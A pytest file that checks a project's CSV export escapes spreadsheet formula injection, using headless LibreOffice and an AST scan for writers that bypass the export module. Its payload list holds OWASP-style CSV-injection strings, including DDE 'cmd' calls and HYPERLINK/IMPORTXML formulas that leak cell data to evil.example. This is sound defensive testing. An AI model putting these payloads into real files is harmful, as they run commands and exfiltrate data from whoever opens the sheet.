"""Every CSV the project writes goes through smscore.export, which a spreadsheet opens safely.

The payloads follow OWASP's CSV-injection page: cells starting with = + - @, tab (0x09) or
carriage return (0x0D) are formulas to Excel, LibreOffice and Google Sheets; a field separator
or a quote inside a value can start a new cell, so the writer must quote properly; and the
trigger may hide behind leading whitespace or quote characters.
"""

from __future__ import annotations

import ast
import csv
import io
import re
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd

from smscore import export
from smscore.contacts.importer import import_contacts

ROOT = Path(__file__).resolve().parent.parent

# Written for this test from the facts on OWASP's CSV Injection page. Cells that start with a
# trigger, also behind leading whitespace or quote characters:
STARTING = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '+IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '=IMPORTRANGE("http://evil.example","A1")',
    " =1+1",
    "  @SUM(1+1)",
    "\n=1+1",
    "'=1+1",
    '"=1+1',
    '" =1+1',
    "=1+1\r",
]
# A separator, quote or line break inside a value must not start a new cell or row.
EMBEDDED = [
    "Ana,=1+1",
    "Ana;=1+1",
    "Ana\t=1+1",
    "Ana\r=1+1",
    "Ana\n=1+1",
    "Ana\r\n=1+1",
    'say "hi",=1+1',
]
PAYLOADS = STARTING + EMBEDDED
PLAIN = ["Ana", "São Paulo", "a+b", "x=y", "user@example.com", ""]


def _frame() -> pd.DataFrame:
    cells = PAYLOADS + PLAIN
    return pd.DataFrame({"n": range(len(cells)), "cell": cells, "amount": [Decimal("-0.5")] * len(cells)})


def test_escape_cell_prefixes_every_owasp_trigger_even_behind_whitespace_or_quotes():
    for payload in STARTING:
        assert export.escape_cell(payload) == "'" + payload, repr(payload)
    for text in PLAIN:
        assert export.escape_cell(text) == text
    assert export.escape_cell(Decimal("-1")) == Decimal("-1") and export.escape_cell(-1) == -1


def test_csv_quotes_bare_carriage_returns_and_newlines():
    data = export.csv_bytes(pd.DataFrame({"category": ["\r=1+1", "a\nb", "ok"]}))
    text = data.decode("utf-8-sig")
    assert '"\'\r=1+1"' in text and '"a\nb"' in text
    assert text.replace('"\'\r=1+1"', "").replace('"a\nb"', "").count("\r") == 4  # row ends


def test_csv_reads_back_cell_for_cell_with_pythons_csv():
    frame = _frame()
    rows = list(csv.reader(io.StringIO(export.csv_bytes(frame).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["n", "cell", "amount"]
    assert len(rows) == len(frame) + 1
    for (_n, cell, amount), original in zip(rows[1:], frame["cell"]):
        assert cell == export.escape_cell(original)
        assert amount == "-0.5"
        assert not export.is_formula_like(cell) or cell.startswith("'")


def test_import_rejects_file_neutralises_formulas_from_the_source(fresh_db, tmp_path):
    hostile = (
        b"phone,name,category\r\n"
        b'123,=HYPERLINK("http://evil.example"),"\r=1+1"\r\n'
        b'456,@SUM(1+1),"x\r+2+3"\r\n'
    )
    report = import_contacts(fresh_db, hostile)
    assert report.rejected == 2
    out = tmp_path / "rejects.csv"
    report.write_rejects(out)
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    assert len(rows) == 3, rows
    assert [r[3] for r in rows[1:]] == ['\'=HYPERLINK("http://evil.example")', "'@SUM(1+1)"]
    assert [r[4] for r in rows[1:]] == ["'\r=1+1", "x\r+2+3"]


# -- LibreOffice: what a spreadsheet really makes of the file ----------------------------------


def _to_xlsx(csv_path: Path, tmp_path: Path) -> openpyxl.Workbook:
    """Convert with LibreOffice headless, UTF-8 and comma-separated, as a user opening it."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "LibreOffice is installed by scripts/test (libreoffice-calc-nogui)"
    profile = tmp_path / "lo-profile"
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path),
            str(csv_path),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    return openpyxl.load_workbook(tmp_path / (csv_path.stem + ".xlsx"))


def _formulas(sheet) -> list[str]:
    return [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_libreoffice_opens_the_owasp_payloads_as_text_in_their_own_rows(tmp_path):
    frame = _frame()
    safe = export.write_csv(frame, tmp_path / "safe.csv")
    # The control: the same cells written naively are formulas and split rows in LibreOffice,
    # so this test can tell a safe file from an unsafe one.
    naive = tmp_path / "naive.csv"
    naive.write_text(frame.to_csv(index=False), encoding="utf-8")
    naive_sheet = _to_xlsx(naive, tmp_path).active
    assert _formulas(naive_sheet) and naive_sheet.max_row > len(frame) + 1

    sheet = _to_xlsx(safe, tmp_path).active
    assert _formulas(sheet) == []
    assert sheet.max_row == len(frame) + 1
    ns = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert ns == list(range(len(frame)))
    assert all(row[2] == -0.5 for row in sheet.iter_rows(min_row=2, values_only=True))


# -- no CSV path can bypass the writer ---------------------------------------------------------

# Files allowed to write CSV without smscore.export: generators of *input* fixtures and samples.
_ALLOWED = {
    "smscore/export.py",
    "scripts/make_sample_contacts.py",
    "bench/gen_contacts.py",
    "bench/bench_import_memory.py",
}  # narrows gen_contacts' file into an import input
_WRITERS = {"writer", "DictWriter", "to_csv", "write_csv"}


def _csv_writer_calls(source: str, name: str) -> list[str]:
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            attr = node.func.attr
            owner = node.func.value
            if attr in ("writer", "DictWriter") and not (isinstance(owner, ast.Name) and owner.id == "csv"):
                continue
            if attr == "write_csv" and isinstance(owner, ast.Name) and owner.id == "export":
                continue
            if attr in _WRITERS:
                found.append(f"{name}:{node.lineno} .{attr}(")
        if (
            isinstance(node, ast.Constant)
            and isinstance(node.value, str)
            and re.search(r"\bCOPY\b[^;]*\bTO\b", node.value, re.IGNORECASE | re.DOTALL)
            and "csv" in node.value.lower()
        ):
            found.append(f"{name}:{node.lineno} COPY ... TO")
    return found


def test_no_csv_is_written_outside_the_export_module():
    sources = [
        p
        for p in ROOT.rglob("*.py")
        if not {"tests", "tools", "node_modules", ".git"} & set(p.relative_to(ROOT).parts)
    ]
    assert len(sources) > 20
    bypasses = [
        hit
        for p in sources
        if str(p.relative_to(ROOT)) not in _ALLOWED
        for hit in _csv_writer_calls(p.read_text(encoding="utf-8"), str(p.relative_to(ROOT)))
    ]
    assert bypasses == []


def test_the_bypass_check_sees_a_new_writer():
    sneaky = (
        "import csv\n"
        "def f(df, fh, con):\n"
        "    df.to_csv(fh)\n"
        "    csv.writer(fh)\n"
        "    con.sql('select 1').write_csv('x.csv')\n"
        "    con.execute(\"COPY t TO 'x.csv' (FORMAT csv)\")\n"
    )
    hits = sorted(h.split(" ", 1)[1] for h in _csv_writer_calls(sneaky, "sneaky.py"))
    assert hits == [".to_csv(", ".write_csv(", ".writer(", "COPY ... TO"]


def test_cli_import_rejects_csv_is_spreadsheet_safe(db_path, tmp_path):
    from smscore.cli import main

    source = tmp_path / "contacts.csv"
    source.write_bytes(b'phone,name,category\r\n123,=1+1,"\r=1+1"\r\n')
    out = tmp_path / "rejects.csv"
    assert main(["--db", str(db_path), "import", str(source), "--rejects", str(out)]) == 0
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    assert rows[1][3:] == ["'=1+1", "'\r=1+1"] and len(rows) == 2
